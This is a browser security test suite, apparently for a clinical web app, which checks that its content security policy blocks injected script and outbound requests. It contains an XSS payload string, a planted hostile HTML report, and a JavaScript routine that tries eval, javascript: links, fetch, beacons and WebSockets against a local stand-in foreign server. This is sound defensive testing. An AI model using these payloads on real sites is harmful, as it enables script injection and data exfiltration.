"""What a browser refuses: script in words, strangers' pages, and whatever a report may hold."""

import http.server
import threading
from contextlib import closing, contextmanager

import pytest

from imu_hip.history.records import Mode, SessionState
from imu_hip.history.store import open_history
from imu_hip.report.html import write_html
from imu_hip.report.session_material import read_session
from imu_hip.report.session_page import render_session_for_clinician
from imu_hip.web.app import live_page
from imu_hip.web.service import Service
from tests.browser.in_a_thread import served_in_a_thread
from tests.histories import repetition, result
from tests.integration.web.conftest import PROTOCOL
from tests.web_sessions import LedByHand

HOSTILE = '"><img src=x onerror="window.owned=1"><script>window.owned=1</script>{{7*7}}$x'
"""An alias, cut to what an alias may be long."""

RAW_REPORT = """<!DOCTYPE html><title>r</title><p id="told">read</p>
<script>window.owned = 1; document.getElementById("told").textContent = "ran";</script>
<img src="{foreign}/img" onerror="window.owned = 1">
<form action="{foreign}/form"><button>x</button></form>
<iframe src="{foreign}/frame"></iframe>"""
"""A report that somebody else wrote into the place of one of ours."""

TRIES = """(foreign) => new Promise((told) => setTimeout(async () => {
  // Later than the call itself, which as a debugger's is free of the policy.
  const blocked = [];
  document.addEventListener("securitypolicyviolation", (e) => blocked.push(e.effectiveDirective));
  const worked = [];
  const attempt = async (name, work) => {
    try { await work(); worked.push(name); } catch { /* refused */ }
  };
  const add = (tag, set) => {
    const made = document.createElement(tag);
    set(made);
    document.body.append(made);
    return made;
  };
  const own = (name) => `(window.owned ??= []).push("${name}")`;
  await attempt("eval", () => eval(own("eval")));
  await attempt("function", () => new Function(own("function"))());
  await attempt("timer", () => setTimeout(own("timer")));
  await attempt("markup", () => { add("p", (p) => { p.innerHTML = "<b>x</b>"; }); });
  await attempt("srcdoc", () => add("iframe", (f) => { f.srcdoc = "<p>x</p>"; }));
  await attempt("script", () => add("script", (s) => { s.textContent = own("script"); }));
  await attempt("handler", () => {
    add("p", (p) => { p.setAttribute("onclick", own("handler")); }).click();
  });
  await attempt("link", () => {
    add("a", (a) => { a.href = `javascript:${own("link")}`; }).click();
  });
  await attempt("fetch", () => fetch(foreign + "/fetch", { mode: "no-cors" }));
  await attempt("beacon", () => { navigator.sendBeacon(foreign + "/beacon", "x"); });
  await attempt("import", () => import(foreign + "/module.js"));
  await attempt("data", () => import(`data:text/javascript,${encodeURIComponent(own("data"))}`));
  await attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["1"]))));
  await attempt("policy", () => trustedTypes.createPolicy("own", { createHTML: (s) => s }));
  await attempt("object", () => add("object", (o) => { o.data = foreign + "/object"; }));
  add("img", (i) => { i.src = foreign + "/img"; });
  add("link", (l) => { l.rel = "stylesheet"; l.href = foreign + "/style.css"; });
  add("iframe", (f) => { f.name = "sink"; f.src = foreign + "/frame"; });
  add("form", (f) => { f.action = foreign + "/form"; f.target = "sink"; }).submit();
  await attempt("socket", () => new Promise((done, refused) => {
    const tried = new WebSocket(foreign.replace("http", "ws") + "/socket");
    tried.onerror = done;
    document.addEventListener("securitypolicyviolation", refused);
  }));
  add("base", (b) => { b.href = foreign + "/based/"; });
  const base = document.baseURI;
  setTimeout(() => told({ worked, blocked, owned: window.owned ?? [], base }), 300);
}))"""
"""Every way that is known to run words as code, or to tell a stranger something."""


class Foreign(http.server.BaseHTTPRequestHandler):
    """A stranger's site that remembers who asked it for what."""

    def do_GET(self):
        self.server.asked.append(self.path)
        page = self.server.pages.get(self.path, "")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(page.encode())

    do_POST = do_GET  # noqa: N815

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def foreign():
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Foreign) as server:
        server.asked, server.pages = [], {}
        server.address = f"http://localhost:{server.server_port}"
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        yield server
        server.shutdown()


class Served:
    """The real application with somebody hostile in its history."""

    def __init__(self, folder):
        self.history = open_history(f"sqlite:///{folder / 'history.db'}", folders=[folder])
        person = self.history.add_person(HOSTILE[:80])
        self.person = person.alias
        session = self.history.begin_session(
            person, HOSTILE, Mode.ACTIVE, simulated=False, recording=str(folder / f"{HOSTILE[:9]}")
        )
        self.history.add_repetition(session.id, repetition(counted=False, reason=HOSTILE))
        self.history.finish_session(session.id, SessionState.FINISHED, [result()], HOSTILE)
        write_html(
            render_session_for_clinician(read_session(self.history, session.id)),
            folder / "ours.html",
        )
        self.history.add_report(session.id, str(folder / "ours.html"))
        self.session = session.id
        self.folder = folder
        self.address = ""

    @contextmanager
    def running(self):
        service = Service(self.history, (PROTOCOL,), self.folder, "dot,play=guided", LedByHand)
        with (
            closing(self.history),
            served_in_a_thread(live_page(service)) as (self.address, _),
        ):
            yield self


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    with Served(tmp_path_factory.mktemp("served")).running() as running:
        yield running


@pytest.fixture
def page(chromium):
    context = chromium.new_context()
    opened = context.new_page()
    opened.set_default_timeout(10_000)
    yield opened
    context.close()


def test_the_page_runs_no_words_and_asks_no_stranger(page, served, foreign):
    foreign.asked.clear()
    page.goto(served.address)
    page.wait_for_selector("main :not(.wait)")
    found = page.evaluate(TRIES, foreign.address)
    assert found["owned"] == []
    assert found["base"].startswith(served.address)
    assert foreign.asked == []
    # These are made without an error, and then do nothing.
    assert set(found["worked"]) <= {"beacon", "handler", "link", "script"}
    assert {
        "base-uri",
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "require-trusted-types-for",
        "script-src-elem",
        "style-src-elem",
        "trusted-types",
    } <= set(found["blocked"])


def test_the_tries_succeed_where_nothing_is_forbidden(page, foreign):
    """Else it would prove nothing that they fail on the page."""
    foreign.asked.clear()
    foreign.pages["/free"] = "<!DOCTYPE html><p>free</p>"
    page.goto(f"{foreign.address}/free")
    found = page.evaluate(TRIES, foreign.address)
    assert set(found["owned"]) == {
        *("eval", "function", "timer", "script", "handler", "link", "data"),
    }
    assert {"markup", "srcdoc", "worker", "policy", "fetch", "socket"} <= set(found["worked"])
    assert found["base"] == f"{foreign.address}/based/"
    assert {
        *("/fetch", "/beacon", "/module.js", "/object", "/img", "/style.css", "/form", "/socket"),
    } <= {path.rstrip("?") for path in foreign.asked}


def test_words_of_people_are_words_everywhere_on_the_page(page, served):
    page.goto(served.address)
    page.wait_for_selector("input, select, button")
    shown = page.content()
    assert '<img src="x"' not in shown
    answer = page.evaluate(
        "async (who) => (await (await fetch('/api/history?person=' + encodeURIComponent(who)))"
        ".json()).person.alias",
        served.person,
    )
    assert answer == served.person
    assert page.evaluate("window.owned ?? null") is None
    assert page.evaluate("document.querySelectorAll('main img').length") == 0


def test_our_report_shows_what_people_wrote_as_words(page, served):
    page.goto(f"{served.address}/reports/{served.session}")
    assert "onerror" in page.inner_text("body")
    assert page.evaluate("window.owned ?? null") is None
    assert page.evaluate("document.querySelectorAll('img, script').length") == 0
    assert page.evaluate("self.origin") == "null"


def test_our_report_opened_from_a_disk_is_as_harmless(page, served):
    page.goto((served.folder / "ours.html").as_uri())
    outcome = page.evaluate(
        """() => {
          const made = document.createElement("script");
          made.textContent = "window.owned = 1";
          document.body.append(made);
          return window.owned ?? null;
        }"""
    )
    assert outcome is None


def test_a_report_that_somebody_else_wrote_runs_nothing_and_asks_nobody(page, served, foreign):
    foreign.asked.clear()
    raw = served.folder / "raw.html"
    raw.write_text(RAW_REPORT.format(foreign=foreign.address), encoding="utf-8")
    served.history.add_report(served.session, str(raw))
    page.goto(f"{served.address}/reports/{served.session}")
    assert page.inner_text("#told") == "read"
    assert page.evaluate("window.owned ?? null") is None
    # As a page of nobody, it can neither read what the page keeps nor ask the server for more.
    assert page.evaluate("self.origin") == "null"
    page.evaluate("document.querySelector('form').submit()")
    page.wait_for_timeout(200)
    assert foreign.asked == []


def test_a_stranger_can_neither_frame_nor_hold_nor_ask_the_page(page, served, foreign):
    before = [person.alias for person in served.history.people()]
    foreign.pages["/framing"] = f'<iframe src="{served.address}/"></iframe>'
    foreign.pages["/asking"] = "<p>asking</p>"
    page.goto(f"{foreign.address}/framing")
    page.wait_for_timeout(300)
    (frame,) = page.frames[1:]
    assert frame.url.startswith("chrome-error://")
    page.goto(f"{foreign.address}/asking")
    told = page.evaluate(
        """async (ours) => {
          const answer = {};
          for (const [name, options] of [
            ["read", {}],
            ["blind", { mode: "no-cors" }],
            ["change", { method: "POST", mode: "no-cors", body: "{}" }],
          ]) {
            try { await fetch(ours + "/api/history?person=x", options); answer[name] = "came"; }
            catch { answer[name] = "refused"; }
          }
          const opened = window.open(ours + "/");
          await new Promise((done) => setTimeout(done, 500));
          answer.held = !opened.closed && opened.length !== undefined;
          answer.socket = await new Promise((done) => {
            const tried = new WebSocket(ours.replace("http", "ws") + "/live");
            tried.onopen = () => done("open");
            tried.onerror = () => done("refused");
          });
          return answer;
        }""",
        served.address,
    )
    assert told == {
        "read": "refused",
        "blind": "refused",
        "change": "refused",
        "held": False,
        "socket": "refused",
    }
    assert [person.alias for person in served.history.people()] == before
